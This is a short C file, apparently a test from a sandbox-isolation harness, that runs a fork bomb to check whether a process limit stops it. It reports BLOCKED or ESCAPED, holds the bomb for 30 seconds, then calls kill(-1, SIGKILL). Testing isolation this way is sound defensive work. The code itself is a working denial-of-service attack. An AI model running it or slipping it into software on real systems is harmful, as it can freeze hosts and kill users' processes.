/* A fork bomb: every process forks in a loop, forever. The parent
 * reports when fork starts failing, then holds the bomb going while the
 * host measures how responsive it stays. */
#include "attack.h"

int main(void) {
    protocol_init("fork_bomb");
    signal(SIGCHLD, SIG_IGN); /* no zombies to reap */
    int made = 0, fails = 0, err = 0;
    time_t start = time(NULL);
    while (time(NULL) - start < 10 && made < 20000) {
        pid_t p = fork();
        if (p == 0) {
            signal(SIGTERM, SIG_DFL);
            for (;;) fork();
        }
        if (p > 0) { made++; continue; }
        err = errno;
        if (++fails >= 1) break;
    }
    info("forks by the parent before the limit: %d", made);
    if (fails)
        verdict("BLOCKED", "fork fails with %s at the pids limit", ename(err));
    else
        verdict("ESCAPED", "no process limit: %d forks", made);
    hold(30);
    kill(-1, SIGKILL);
    return 0;
}
